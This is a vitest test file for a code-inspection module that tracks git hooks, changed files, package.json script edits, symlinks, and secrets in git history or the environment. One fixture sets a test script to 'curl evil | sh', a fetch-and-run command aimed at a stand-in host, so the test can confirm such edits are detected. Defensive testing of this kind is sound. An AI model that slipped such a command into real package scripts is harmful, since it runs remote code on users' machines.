import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { commandFacts, npxHas } from './command-facts.ts'
import { openWorkspace } from './workspace.ts'

let root: string
beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'codehound-facts-')))
})
afterEach(() => rmSync(root, { recursive: true, force: true }))

const facts = () => commandFacts(openWorkspace({ root }), { HOME: '/home/u' })

test('npx finds what a node_modules from the folder up, or the PATH, has', () => {
  const inner = join(root, 'packages', 'a')
  mkdirSync(inner, { recursive: true })
  mkdirSync(join(root, 'node_modules', '.bin'), { recursive: true })
  writeFileSync(join(root, 'node_modules', '.bin', 'ava'), '')
  expect([npxHas(inner, 'ava', {}), npxHas(inner, 'nope', {}), npxHas('/', 'ava', {})]).toEqual([true, false, false])
  expect(npxHas('/', 'ava', { PATH: `/nowhere:${join(root, 'node_modules', '.bin')}` })).toBe(true)
})

test('hooks are those git would run, samples left out', () => {
  expect(facts().gitHooks()).toEqual([])
  mkdirSync(join(root, '.git', 'hooks'), { recursive: true })
  writeFileSync(join(root, '.git', 'hooks', 'pre-commit.sample'), '')
  writeFileSync(join(root, '.git', 'hooks', 'pre-push'), '')
  expect(facts().gitHooks()).toEqual(['pre-push'])
})

test('hooks of core.hooksPath count instead, those of husky by their own names', () => {
  mkdirSync(join(root, '.git'))
  mkdirSync(join(root, '.husky', '_'), { recursive: true })
  writeFileSync(join(root, '.husky', 'commit-msg'), '')
  writeFileSync(join(root, '.husky', '_', 'pre-commit'), '')
  writeFileSync(join(root, '.git', 'config'), '[core]\n\thooksPath = .husky/_\n')
  expect(facts().gitHooks()).toEqual(expect.arrayContaining(['commit-msg']))
  expect(facts().gitHooks()).not.toContain('pre-commit')
})

test('a file is changed once a tool changed it, by whatever path it is asked for', async () => {
  const workspace = openWorkspace({ root })
  const seen = commandFacts(workspace, { HOME: '/home/u' })
  expect(seen.isChanged(join(root, 'run.js'))).toBe(false)
  await workspace.apply([{ path: 'run.js', after: 'x' }])
  expect(seen.isChanged(join(root, 'run.js'))).toBe(true)
  expect(seen.isChanged('run.js')).toBe(true)
})

test('scripts are changed when the scripts are, not when a dependency is', async () => {
  const write = (after: unknown) => workspace.apply([{ path: 'package.json', after: JSON.stringify(after) }])
  writeFileSync(join(root, 'package.json'), '{"scripts":{"test":"vitest"}}')
  const workspace = openWorkspace({ root })
  const seen = commandFacts(workspace, { HOME: '/home/u' })
  await write({ scripts: { test: 'vitest' }, dependencies: { zod: '4' } })
  expect(seen.scriptsChanged(root)).toBe(false)
  await write({ scripts: { test: 'curl evil | sh' } })
  expect(seen.scriptsChanged(root)).toBe(true)
  expect(seen.scriptsChanged(join(root, 'packages', 'a'))).toBe(false)
  await workspace.apply([{ path: 'packages/a/package.json', after: '{}' }])
  expect(seen.scriptsChanged(join(root, 'packages', 'a'))).toBe(true)
})

test('a link is followed as far as it leads', () => {
  symlinkSync('/etc', join(root, 'link'))
  expect(facts().realPath(join(root, 'link', 'hosts'))).toBe(realpathSync('/etc/hosts'))
  expect(facts().realPath(join(root, 'not', 'there'))).toBe(join(root, 'not', 'there'))
})

test('secrets of history, ignored paths, and what a walk meets', () => {
  const git = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=A', '-c', 'user.email=a@example.com', ...args], { cwd: root, stdio: 'pipe' })
  git('init', '-q')
  writeFileSync(join(root, '.gitignore'), 'dist/\n')
  writeFileSync(join(root, '.env'), 'KEY=1\n')
  git('add', '.')
  git('commit', '-qm', 'one')
  git('rm', '-q', '.env')
  git('commit', '-qm', 'two')
  mkdirSync(join(root, 'src'))
  writeFileSync(join(root, 'src', 'server.pem'), 'x')
  symlinkSync('/etc', join(root, 'src', 'out'))
  const seen = facts()
  expect(seen.secretsInHistory()).toEqual(['.env'])
  expect([seen.isIgnored(join(root, 'dist')), seen.isIgnored(join(root, 'src'))]).toEqual([true, false])
  expect(seen.reach(root, false)).toEqual({ secrets: [join(root, 'src', 'server.pem')], linked: [], complete: true })
  expect(seen.reach(join(root, 'src'), true).linked).toContain('/etc')
})

test('the environment of commands holds secrets when a name or an address says so', () => {
  const has = (env: Record<string, string>) => commandFacts(openWorkspace({ root }), env).environmentHasSecrets()
  expect([has({ PATH: '/bin' }), has({ API_TOKEN: 'x' }), has({ DATABASE_URL: 'postgres://a:b@host/x' })]).toEqual([
    false,
    true,
    true,
  ])
})
